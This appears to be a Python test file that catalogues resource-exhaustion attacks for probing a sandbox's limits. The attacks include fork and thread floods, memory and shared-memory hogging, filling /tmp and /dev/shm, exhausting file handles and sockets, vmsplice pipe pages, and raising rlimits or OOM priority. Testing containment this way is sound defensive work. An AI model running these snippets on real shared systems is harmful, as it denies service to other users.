"""Use up memory, processes, disk and whatever else there is a limited number of."""

from attacks import Attack, in_cell

LARGE = """
GIB = 2**30
ENOUGH = 5 * GIB // 2  # more than the 2 GiB that one student may have

def done(what, size):
    print(f"{what}: {size / GIB:.2f} GiB")
    if size >= ENOUGH:
        print("attack worked:", what, "held more than 2.5 GiB at once")
"""

ATTACKS: list[Attack] = [
    in_cell(
        "memory",
        "One process takes memory, page by page, until it is stopped.",
        """
        held = []
        with contextlib.suppress(MemoryError):
            while len(held) < 64:
                held.append(np.full(2**26 // 8, 1.0))
        done("memory", len(held) * 2**26)
        del held
        """,
        before=LARGE,
        ran=False,  # it meets a MemoryError, or is ended if the watch looks at that moment
    ),
    in_cell(
        "memory of many",
        "Many processes take memory, each less than its limit.",
        """
        import time

        if contained("pid"):
            for _ in range(8):
                if os.fork() == 0:
                    kept = np.full(2**29 // 8, 1.0)
                    time.sleep(20)
                    os._exit(0)
            size, until = 0, time.monotonic() + 8
            while time.monotonic() < until and size < ENOUGH:
                time.sleep(0.1)
                size = sum(int(open(f"/proc/{p}/statm").read().split()[1]) * 4096
                           for p in os.listdir("/proc") if p.isdigit())
            done("memory of many", size)
        """,
        before=LARGE,
        ran=False,
    ),
    in_cell(
        "shared memory of many",
        "Processes share memory, so that it belongs to nobody.",
        """
        import mmap, time

        if contained("pid"):
            for _ in range(8):
                if os.fork() == 0:
                    shared = mmap.mmap(-1, 2**29)
                    for at in range(0, 2**29, 4096):
                        shared[at] = 1
                    time.sleep(20)
                    os._exit(0)
            size, until = 0, time.monotonic() + 8
            while time.monotonic() < until and size < ENOUGH:
                time.sleep(0.1)
                size = sum(int(open(f"/proc/{p}/statm").read().split()[2]) * 4096
                           for p in os.listdir("/proc") if p.isdigit())
            done("shared memory of many", size)
        """,
        before=LARGE,
        ran=False,
    ),
    in_cell(
        "files in memory",
        "Files that exist in memory alone, outside every folder that has a size.",
        """
        size = 0
        with contextlib.suppress(OSError):
            while size < ENOUGH:
                size += os.write(os.memfd_create("x"), bytes(2**26 - 1))
        done("files in memory", size)
        """,
        before=LARGE,
        ran=False,
    ),
    in_cell(
        "segments",
        "System V segments, which stay when nobody holds them.",
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        size = 0
        for key in range(16):
            name = libc.shmget(5000 + key, 2**28, 0o1666)
            at = libc.shmat(name, None, 0) if name >= 0 else None
            if at in (None, 2**64 - 1):
                break
            ctypes.memset(at, 1, 2**28)
            libc.shmdt(ctypes.c_void_p(at))
            size += 2**28
        done("segments", size)
        """,
        before=LARGE,
        ran=False,
    ),
    in_cell(
        "disk",
        "Fill every place that can be written.",
        """
        for place in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), "/dev", "/run"):
            size, files = 0, 0
            if contained("mnt"):
                with contextlib.suppress(OSError):
                    while size < ENOUGH:
                        files += 1
                        with open(f"{place}/fill{files}", "wb", buffering=0) as file:
                            for _ in range(16):
                                size += file.write(bytes(2**23))
            done("disk " + place, size)
        """,
        before=LARGE,
        ran=False,
    ),
    in_cell(
        "many files",
        "Make files until nothing is left to name them.",
        """
        made = 0
        if contained("mnt"):
            with contextlib.suppress(OSError):
                while made < 60000:
                    os.close(os.open(f"{made}", os.O_CREAT))
                    made += 1
        print(made, "files")
        if made == 60000:
            print("attack worked: no limit on files")
        """,
    ),
    in_cell(
        "processes",
        "Fork until it is refused.",
        """
        import signal, time

        children = []
        if contained("pid"):
            with contextlib.suppress(OSError):
                while len(children) < 3000:
                    child = os.fork()
                    if child == 0:
                        time.sleep(60)
                        os._exit(0)
                    children.append(child)
        print(len(children), "processes")
        if len(children) >= 1000:
            print("attack worked: 1000 processes")
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
        """,
        ran=False,
    ),
    in_cell(
        "threads",
        "Start threads until it is refused.",
        """
        import threading

        end, started = threading.Event(), 0
        threading.stack_size(2**16)
        with contextlib.suppress(RuntimeError, MemoryError):
            while started < 3000:
                threading.Thread(target=end.wait, daemon=True).start()
                started += 1
        end.set()
        print(started, "threads")
        if started >= 1000:
            print("attack worked: 1000 threads")
        """,
    ),
    in_cell(
        "open files",
        "Open files and sockets until it is refused, and keep them.",
        """
        import socket

        held = []
        with contextlib.suppress(OSError):
            while len(held) < 100000:
                held += socket.socketpair()
        print(len(held), "sockets")
        if len(held) == 100000:
            print("attack worked: no limit on open files")
        """,
    ),
    in_cell(
        "limits raised",
        "Raise one's own limits and priority.",
        """
        import resource

        for name in dir(resource):
            if name.startswith("RLIMIT_"):
                which = getattr(resource, name)
                soft, hard = resource.getrlimit(which)
                if hard != resource.RLIM_INFINITY:
                    attempt("raise " + name, lambda: resource.setrlimit(which, (hard + 1, hard + 1)))
                    attempt("lift " + name, lambda: resource.setrlimit(which, (-1, -1)))
        attempt("priority", lambda: os.nice(-5))
        attempt("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
        with contextlib.suppress(OSError):
            open("/proc/self/oom_score_adj", "w").write("-1000")
            print("attack worked: never chosen when memory is short")
        """,
    ),
    in_cell(
        "socket buffers",
        "Fill the buffers of sockets, in one process and in many: nobody's memory counts them.",
        """
        import socket, time

        def fill():
            size, held = 0, []
            with contextlib.suppress(OSError):
                while size < ENOUGH:
                    for end in (ends := socket.socketpair()):
                        with contextlib.suppress(OSError):
                            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**23)
                        end.setblocking(False)
                        with contextlib.suppress(BlockingIOError):
                            while True:
                                size += end.send(bytes(2**16))
                    held.append(ends)
            return size, held

        size, held = fill()
        done("socket buffers", size)
        if contained("pid"):
            for _ in range(40):
                if os.fork() == 0:
                    kept = fill()
                    time.sleep(20)
                    os._exit(0)
            time.sleep(8)
            used = int(open("/proc/net/sockstat").readline().split()[-1])
            done("sockets of many", used * 200_000)
        """,
        before=LARGE,
        ran=False,
    ),
    in_cell(
        "connections that wait",
        "Connect again and again to a socket of one's own, fill each connection and forget it.",
        """
        import socket

        size = 0
        with contextlib.suppress(OSError):
            here = socket.socket(socket.AF_UNIX)
            here.bind("\\0mine")
            here.listen(4096)
            while size < ENOUGH:
                there = socket.socket(socket.AF_UNIX)
                there.connect("\\0mine")
                there.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        size += there.send(bytes(2**16))
                there.close()
        done("connections", size)
        """,
        before=LARGE,
    ),
    in_cell(
        "numbers that all users share",
        "Take the slots for watching files, for waiting for disks, for queues and for timers.",
        """
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        took = {"inotify": 0, "aio": 0, "mqueue": 0, "timers": 0, "fanotify": 0}
        context = ctypes.c_ulong(0)
        for _ in range(300):
            took["inotify"] += libc.inotify_init1(0) >= 0
            took["aio"] += libc.syscall(206, 200, ctypes.byref(context)) == 0
            context = ctypes.c_ulong(0)
            took["timers"] += libc.timer_create(0, None, ctypes.byref(ctypes.c_void_p())) == 0
            took["fanotify"] += libc.fanotify_init(0, 0) >= 0
        print(took)
        if any(took.values()):
            print("attack worked: took what all users share:", took)
        """,
    ),
    in_cell(
        "pages in pipes",
        "Give pages away to pipes, where they belong to nobody.",
        """
        import ctypes, fcntl

        libc = ctypes.CDLL(None, use_errno=True)
        size = 0
        page = (ctypes.c_char * 2**16)()
        vector = (ctypes.c_void_p * 2)(ctypes.addressof(page), 2**16)
        with contextlib.suppress(OSError):
            while size < ENOUGH:
                reader, writer = os.pipe()
                with contextlib.suppress(OSError):
                    fcntl.fcntl(writer, 1031, 2**20)
                taken = libc.vmsplice(writer, ctypes.byref(vector), 1, 2)
                if taken <= 0:
                    break
                size += taken
        done("pages in pipes", size)
        if size:
            print("attack worked: vmsplice")
        """,
        before=LARGE,
    ),
]
